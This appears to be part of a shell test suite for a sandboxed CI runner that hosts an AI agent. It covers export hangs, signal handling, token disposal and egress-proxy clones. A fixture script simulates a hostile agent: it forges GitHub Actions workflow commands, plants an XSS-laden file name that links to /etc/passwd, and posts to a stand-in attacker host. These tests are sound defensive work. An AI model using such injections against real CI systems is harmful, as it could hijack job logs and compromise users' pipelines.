        wait "$eh_pid" 2>/dev/null
}
# eh_exporter: the exporter's pid, once the sandbox user runs it (at most 60 s; a tight loop: it may be
# short-lived), or nothing.
eh_exporter() {
        local end=$((SECONDS + 60)) p
        while [ "$SECONDS" -lt "$end" ]; do
                p=$(pgrep -u "$SANDBOX_UID" -f 'run-inside export' | head -n1)
                [ -n "$p" ] && { echo "$p"; return; }
                kill -0 "$eh_pid" 2>/dev/null || return
        done
}
eh_phase() { # NAME SUMMARY_JSON: the phase's outcome and detail
        python3 -c 'import json, sys; print(" ".join(p["outcome"] + ": " + p["detail"] for p in json.load(open(sys.argv[2]))["phases"] if p["name"] == sys.argv[1]))' "$1" "$2" 2>&1
}
eh_export() { # NAME SUMMARY_JSON: the output's outcome and reason
        python3 -c 'import json, sys; print(" ".join(e["outcome"] + ": " + e["reason"] for e in json.load(open(sys.argv[2]))["exports"] if e["name"] == sys.argv[1]))' "$1" "$2" 2>&1
}
eh_cleanup() {
        kill_uid "$SANDBOX_UID"
        find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' -exec rm -rf --one-file-system {} +
}

export_hang_fifo() {
        local where name o
        echo "# a FIFO where libgit2 reads, with --patch: the patch refused by name, the run not held up"
        for where in .git/config sub/.gitignore .git/info/attributes; do
                name=fifo-${where//[\/.]/-}
                o=$RUNNER_HOME/run-$name
                eh_start "$name" /dev/null --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                        --out "$o" --patch --output out/r.txt -- \
                        sh -c "mkdir -p out sub && echo done >out/r.txt && rm -f $where && mkfifo $where"
                eh_wait 120
                expect_eq "a FIFO at $where: run ended, status 0" 0 "$status"
                [ "$status" = 0 ] || sed 's/^/# | /' "$work/$name.err"
                expect_contains "... the patch refused, naming it" "refused: $where is a FIFO" \
                        "$(eh_export patch.diff "$o/summary.json")"
                expect_eq "... the other output exported" "done" "$(cat "$o/workspace/out/r.txt" 2>&1)"
                expect_eq "... no exporter nor anything else of the sandbox user left" 0 "$(sandbox_processes)"
                expect_eq "... disposed of" 0 "$(run_dirs)"
                [ "$status" = hung ] && eh_cleanup
        done
}

# The exporter held up (stopped by root, as a FIFO held it before): SIGTERM ends the run as cancelled,
# within its grace, nothing exported; SIGKILL of run leaves no exporter once it can run again.
export_hang_signals() {
        local o=$RUNNER_HOME/run-export-term exporter
        local agent='mkdir -p out many && echo done >out/r.txt && cd many && seq 1 40000 | xargs touch'
        echo "# SIGTERM while the export runs"
        eh_start export-term /dev/null --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                --out "$o" --patch --output out/r.txt -- sh -c "$agent"
        exporter=$(eh_exporter)
        if [ -z "$exporter" ]; then
                fail "the exporter was not caught running"
                eh_wait 60
                sed 's/^/# | /' "$work/export-term.err"
        else
                kill -STOP "$exporter"
                pass "the exporter caught running, and stopped"
                kill -TERM "$(client_of "$eh_pid")"
                eh_wait 60
                expect_eq "SIGTERM during the export: status 1" 1 "$status"
                [ "$status" = 1 ] || sed 's/^/# | /' "$work/export-term.err"
                expect_contains "... the summary says cancelled" '"result": "cancelled"' "$(cat "$o/summary.json" 2>&1)"
                expect_contains "... the export's phase says by which signal" \
                        "failed: cancelled by signal $(kill -l TERM); nothing exported" "$(eh_phase export "$o/summary.json")"
                expect_absent "... nothing exported" "$o/workspace"
                expect_eq "... nothing of the sandbox user left" 0 "$(sandbox_processes)"
                expect_eq "... disposed of" 0 "$(run_dirs)"
        fi
        [ "$status" = hung ] && eh_cleanup

        echo "# SIGKILL of run while the export runs"
        o=$RUNNER_HOME/run-export-kill
        eh_start export-kill /dev/null --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                --out "$o" --patch --output out/r.txt -- sh -c "$agent"
        exporter=$(eh_exporter)
        if [ -z "$exporter" ]; then
                fail "the exporter was not caught running"
                eh_wait 60
        else
                kill -STOP "$exporter"
                kill -KILL "$(client_of "$eh_pid")"
                eh_wait 10
                kill -CONT "$exporter"
                for _ in $(seq 1 100); do
                        [ -e "/proc/$exporter" ] || break
                        sleep 0.1
                done
                expect_absent "SIGKILL of run: the exporter ended with it" "/proc/$exporter"
                # The helper ends the rest as it goes, its caller gone: its kill-user's last stage (a
                # child that is the sandbox user, removing what it left in /tmp) may still be at work.
                expect_eq "... nothing of the sandbox user left" 0 "$(left_of_uid "$SANDBOX_UID")"
        fi
        eh_cleanup
        rm -rf "$o"
}

# A chain deeper than remove-tree's table of 256 levels: removed all the same. And a disposal that fails
# (root's mount in the workspace, which no removal crosses): the token goes first, and the summary says
# what stayed.
export_hang_disposal() {
        local o=$RUNNER_HOME/run-deep run_dir detail
        echo "# a chain of 300 directories, with the run token"
        eh_start deep "$work/eh-token" --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                --out "$o" --token-stdin --output out/r.txt -- \
                sh -c 'mkdir -p out && echo done >out/r.txt && i=0 && while [ $i -lt 300 ]; do mkdir d && cd d && i=$((i + 1)); done'
        eh_wait 120
        expect_eq "a 300-deep chain: status 0" 0 "$status"
        [ "$status" = 0 ] || sed 's/^/# | /' "$work/deep.err"
        expect_contains "... the disposal ok" "ok: " "$(eh_phase dispose "$o/summary.json")"
        expect_eq "... the run's directory (its token with it) is gone" 0 "$(run_dirs)"
        [ "$(run_dirs)" = 0 ] || eh_cleanup

        echo "# a disposal that fails: the token first"
        o=$RUNNER_HOME/run-undisposable
        eh_start undisposable "$work/eh-token" --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                --out "$o" --token-stdin --output out/r.txt -- \
                sh -c 'mkdir -p m && echo "agent: waiting" && while [ ! -e go ]; do sleep 0.1; done'
        for _ in $(seq 1 300); do
                grep -q "agent: waiting" "$work/undisposable.out" 2>/dev/null && break
                sleep 0.1
        done
        run_dir=$(find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' | head -n1)
        expect_eq "the token file is there while the agent runs" yes \
                "$([ -n "$run_dir" ] && [ -f "$run_dir/token/token" ] && echo yes)"
        if [ -z "$run_dir" ] || [ ! -d "$run_dir/workspace/m" ]; then
                fail "the agent did not get to wait"
                sed 's/^/# | /' "$work/undisposable.err"
                eh_wait 120
                eh_cleanup
                return
        fi
        mount -t tmpfs -o size=1m ajt-undisposable "$run_dir/workspace/m"
        on_exit "umount $run_dir/workspace/m 2>/dev/null"
        touch "$run_dir/workspace/go"
        eh_wait 120
        expect_eq "a disposal that fails: status 2" 2 "$status"
        detail=$(eh_phase dispose "$o/summary.json")
        echo "# dispose: $detail"
        expect_contains "... the summary says what stayed" "cannot remove the run's directory (its token files removed first, verified gone)" "$detail"
        expect_absent "... the token is gone" "$run_dir/token/token"
        expect_eq "... the rest of the run's directory stayed" yes "$([ -d "$run_dir" ] && echo yes)"
        umount "$run_dir/workspace/m"
        eh_cleanup
}

printf 'eh-token-%s\n' "$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')" >"$work/eh-token"
chmod 0600 "$work/eh-token" # root opens it for run's standard input; the token probes search /tmp
export_hang_fifo
export_hang_signals
export_hang_disposal

# ---------------------------------------------------------------------------------------------------------
# Over https, through the egress proxy (which ends TLS: the clone trusts its authority), from the fake
# internet's git server (tests/host/run publishes it, read-only). The fetch posts its negotiation to
# git-upload-pack, which the policy must admit: a rule for the fake host, as the shipped one is for GitHub.
echo "# a clone over https through the egress proxy"
URL=https://www.fake.test/git/fixture.git
POLICY=/opt/egress-proxy/policy/policy.toml
REMOTE_PR=$(git ls-remote "$URL" refs/heads/pr | cut -f1)
REMOTE_MAIN=$(git ls-remote "$URL" refs/heads/main | cut -f1)
expect_eq "the fake git server answers root directly" 40 "${#REMOTE_PR}"
run_as_runner --repo "$URL" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-https-refused" \
        --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "without a rule for git-upload-pack: never started (4)" 4 "$status"
expect_contains "... the clone says why" "clone: FAILED" "$(cat "$work/run.err")"
expect_contains "... and what the egress proxy did, from the run's egress log" \
        "clone: the egress proxy denied 1 of the run's requests, the first: POST www.fake.test/git/fixture.git/git-upload-pack: " \
        "$(cat "$work/run.err")"
expect_contains "... and where that log is" "(each request in $RUNNER_HOME/run-https-refused/egress.jsonl)" \
        "$(cat "$work/run.err")"
# A host that does not resolve: the policy allows the read, squid answers itself, which is all libgit2
# says; the clone names squid's reason, asked of the proxy again. squid 6 says ERR_DNS_FAIL (503); 5.7
# (bookworm) says ERR_READ_ERROR (502), as it does of a plain http:// read of the same name.
run_as_runner --repo https://nowhere.fake.test/git/fixture.git --ref pr --base main --task "$work/task.md" \
        --out "$RUNNER_HOME/run-https-nowhere" --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "a host that does not resolve: never started (4)" 4 "$status"
if [ "${AJH_RELEASE:-}" = bookworm ]; then
        nowhere="unexpected http status code: 502 (the egress proxy: squid's ERR_READ_ERROR: no connection to the origin (a name that does not resolve, or one that failed))"
else
        nowhere="unexpected http status code: 503 (the egress proxy: squid's ERR_DNS_FAIL: the name does not resolve)"
fi
expect_contains "... libgit2's error, and squid's reason in words" "$nowhere" "$(cat "$work/run.err")"
cp -p "$POLICY" "$work/policy.orig"
on_exit "cp -p $work/policy.orig $POLICY; $CLIENT egress stop; $CLIENT egress start"
printf '\n[[write]]\nname = "ajt-git-fetch"\nwhy = "the fake git server: fetch only"\nhosts = ["www.fake.test"]\nmethods = ["POST"]\npaths = ["/git/**/git-upload-pack"]\n' >>"$POLICY"
{ "$CLIENT" egress stop && "$CLIENT" egress start; } >"$work/proxy.out" 2>&1 || { sed 's/^/# proxy: /' "$work/proxy.out"; fail "the proxy did not restart"; }
run_as_runner --repo "$URL" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-https" \
        --output out/review.md --output out/trusted-seen.json --patch -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "a clone over https through the proxy: status 0" 0 "$status"
[ "$status" = 0 ] || show
expect_contains "... of the commit the ref named" "# review of $REMOTE_PR" \
        "$(cat "$RUNNER_HOME/run-https/workspace/out/review.md" 2>&1)"
expect_contains "... the base resolved over https too" "\"base-commit\": \"$REMOTE_MAIN\"" \
        "$(cat "$RUNNER_HOME/run-https/summary.json")"
expect_eq "... the trusted path from the base" '{"trusted":"base"}' \
        "$(cat "$RUNNER_HOME/run-https/workspace/out/trusted-seen.json" 2>&1)"
expect_contains "... its upload-pack request is in the run's egress log, allowed" \
        '"method":"POST","host":"www.fake.test","path":"/git/fixture.git/git-upload-pack","decision":"allow"' \
        "$(cat "$RUNNER_HOME/run-https/egress.jsonl")"
# A commit that is no branch's tip: git's upload-pack refuses a bare id it does not advertise, so the
# clone falls back to fetching the branches, and finds it there.
git clone -q --bare "$URL" "$work/fixture-copy.git"
INNER=$(git -C "$work/fixture-copy.git" rev-parse pr~1)
run_as_runner --repo "$URL" --commit "$INNER" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-https-inner" \
        --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "a commit no branch ends at, over https: status 0" 0 "$status"
[ "$status" = 0 ] || show
expect_contains "... fetched with the branches, the server having refused the bare id" "(fetched with the base)" \
        "$(cat "$work/run.err")"
expect_contains "... that commit checked out" "# review of $INNER" \
        "$(cat "$RUNNER_HOME/run-https-inner/workspace/out/review.md" 2>&1)"
expect_contains "... the summary says how" '"fetched-by-id": false' "$(cat "$RUNNER_HOME/run-https-inner/summary.json")"
# The same commit from a server that sends what a branch reaches by its id (as GitHub does).
run_as_runner --repo "${URL%.git}-by-id.git" --commit "$INNER" --base main --task "$work/task.md" \
        --out "$RUNNER_HOME/run-https-by-id" --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "the same commit where the server sends it by id: status 0" 0 "$status"
[ "$status" = 0 ] || show
expect_contains "... fetched by its id" "(fetched by id)" "$(cat "$work/run.err")"
expect_contains "... that commit checked out" "# review of $INNER" \
        "$(cat "$RUNNER_HOME/run-https-by-id/workspace/out/review.md" 2>&1)"
cp -p "$work/policy.orig" "$POLICY"
{ "$CLIENT" egress stop && "$CLIENT" egress start; } >"$work/proxy.out" 2>&1 || fail "the proxy did not restart"

# ---------------------------------------------------------------------------------------------------------
# Workflow commands as the runner reads them (actions/runner: a line ends at "\r", "\n" or "\r\n", the
# UTF-8 decoded with U+FFFD for what is not, every char.IsWhiteSpace trimmed before "::"; "##[" anywhere),
# written by the setup command and the agent, to standard output and error, some in two writes: none is a
# command in the job's log, the streams apart or merged into one pipe (a step's 2>&1).
echo "# workflow commands through the filter"
FORGE=/opt/ajt/forge.sh
cat >"$FORGE" <<'EOT'
#!/bin/bash
# forge.sh WHO: lines the runner would take for workflow commands, to standard output and error.
who=$1
forge() {
        printf 'progress\r::set-output name=verdict::%s-cr\n' "$who"
        printf '\v::add-mask::%s-vt\n' "$who"
        printf '\f::error::%s-ff\n' "$who"
        printf '\xc2\xa0::error::%s-nbsp\n' "$who"
        printf '\xc2\x85::error::%s-nel\n' "$who"
        printf '\xe2\x80\xa8::error::%s-ls\n' "$who"
        printf '\xe3\x80\x80::warning::%s-ideographic\n' "$who"
        printf '\xe2\x80\x8a\t ::stop-commands::%s-stop\n' "$who"
        printf 'x ##[error]%s-hash\n' "$who"
        printf '\xc2\n::error::%s-after-invalid\n' "$who"
        printf '\xe2\x80\r::error::%s-cut-utf8\r\n' "$who"
        printf '\xe2\x80'; sleep 0.3; printf '\x83::error::%s-split\n' "$who"
        printf '#'; sleep 0.3; printf '#[error]%s-split-hash\n' "$who"
        printf ':'; sleep 0.3; printf ':error::%s-last' "$who"
}
forge
forge >&2
if [ "$who" = agent ]; then
        # Markup of the sandbox's choosing for the summary: a refused output's name, a denied request's path.
        mkdir -p out
        ln -s /etc/passwd 'out/<img src=x onerror=alert(1)>![i](x.png)&amp;.md'
        curl -s -g -o /dev/null -m 5 -X POST -d x 'https://upload.fake.test/<h1>x</h1>![i](https://evil.test/i.png)' || true
fi
EOT
chmod 0755 "$FORGE"
# runner_reads FILE: the lines of FILE the runner would take for commands (none: empty).
runner_reads() {
        python3 - "$1" <<'EOT'
import re, sys
ws = "".join(map(chr, [9, 10, 11, 12, 13, 32, 0x85, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029,
                       0x202F, 0x205F, 0x3000]))
text = open(sys.argv[1], "rb").read().decode("utf-8", errors="replace")
for line in re.split("\r\n|\r|\n", text):
    if line.lstrip(ws).startswith("::") or "##[" in line:
        print(repr(line))
EOT
}
printf '\xc2\xa0::error::x\nprogress\r::set-output name=a::b\n' >"$work/forge-control"
expect_eq "control: the runner's reading takes U+00A0 ::error and progress\\r::set-output for commands" 2 \
        "$(runner_reads "$work/forge-control" | grep -c .)"
MARKUP='out/<img src=x onerror=alert(1)>![i](x.png)&amp;.md'
run_as_runner --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-forge" \
        --setup "$FORGE setup" --output out/none --output "$MARKUP" -- "$FORGE" agent
expect_eq "a run whose setup and agent forge commands: status 0" 0 "$status"
[ "$status" = 0 ] || show
for who in setup agent; do
        for f in out err; do
                expect_contains "the $who's lines reached standard $f" "$who-nel" "$(cat "$work/run.$f")"
                expect_contains "... split in two writes too" "$who-split-hash" "$(cat "$work/run.$f")"
        done
done
expect_eq "standard output holds no workflow command as the runner reads it" "" "$(runner_reads "$work/run.out")"
expect_eq "standard error neither" "" "$(runner_reads "$work/run.err")"
# The summary's Markdown as GitHub reads a table: cells split at each '|' no backslash escapes, code
# spans taken out; what is left must hold no '<', '&', '![' or '](' (no HTML, entity, image or link).
md_markup() {
        python3 - "$1" <<'EOT'
import re, sys
punct = set("!\"#$%&'()*+,./:;<=>?@[\\]^_`{}~-|")
for line in open(sys.argv[1], encoding="utf-8").read().split("\n"):
    if not line.startswith("|"):
        continue
    cells, cur, i = [], "", 1
    while i < len(line):
        if line[i] == "\\" and i + 1 < len(line) and line[i + 1] in punct:
            cur += "|" if line[i + 1] == "|" else line[i:i + 2]
            i += 2
        elif line[i] == "|":
            cells.append(cur)
            cur, i = "", i + 1
        else:
            cur += line[i]
            i += 1
    for cell in cells:
        text = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", " ", cell)
        if any(m in text for m in ("<", "&", "![", "](")):
            print(line)
            break
EOT
}
SUMMARY_MD=$RUNNER_HOME/run-forge/summary.md
expect_contains "the summary names the output the agent made a link, markup and all" "<img src=x onerror=alert(1)>" \
        "$(cat "$SUMMARY_MD")"
expect_eq "control: the Markdown reading finds markup in a raw cell" "| <img src=x> |" \
        "$(printf '| <img src=x> |\n' >"$work/md-control"; md_markup "$work/md-control")"
expect_eq "summary.md: no HTML, image or link outside code spans" "" "$(md_markup "$SUMMARY_MD")"
expect_eq "... nor in the step summary" "" "$(md_markup "$RUNNER_TEMP/step-summary")"
runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
        "$CLIENT" run --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-forge-2" \
        --setup "$FORGE setup" --output out/none -- "$FORGE" agent </dev/null >"$work/merged.out" 2>&1
expect_eq "the same with standard output and error in one pipe: status 0" 0 "$?"
expect_contains "... the lines reached it" "agent-ideographic" "$(cat "$work/merged.out")"
expect_eq "... and it holds no workflow command as the runner reads it" "" "$(runner_reads "$work/merged.out")"
rm -f "$FORGE"

# ---------------------------------------------------------------------------------------------------------
echo "# a setup command that puts a link of its own where the trusted paths were: the agent sees the base's"
# shellcheck disable=SC2016
run_as_runner --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-setup-link" \
        --setup 'mkdir -p "$TMPDIR/fake" && echo "{\"trusted\":\"setup\"}" >"$TMPDIR/fake/settings.json" && rm -rf .claude && ln -s "$TMPDIR/fake" .claude' \
        --output out/seen.json -- sh -c 'mkdir -p out && cp .claude/settings.json out/seen.json && test ! -L .claude'
expect_eq "a run whose setup command links the trusted directory away: status 0" 0 "$status"
[ "$status" = 0 ] || show
expect_eq "... the agent read the base's settings" '{"trusted":"base"}' \
        "$(cat "$RUNNER_HOME/run-setup-link/workspace/out/seen.json" 2>&1)"
expect_contains "... the setup command had a phase of its own" "setup: ok in" "$(cat "$work/run.err")"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"

# ---------------------------------------------------------------------------------------------------------
echo "# a second run afterwards works, by ref"
run_as_runner --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-ok" \
        --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
expect_eq "a clean run: status 0" 0 "$status" || show
[ "$status" = 0 ] || show
expect_contains "... the ref resolved to the commit" "# review of $PR_COMMIT" \
        "$(cat "$RUNNER_HOME/run-ok/workspace/out/review.md" 2>&1)"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"

finish
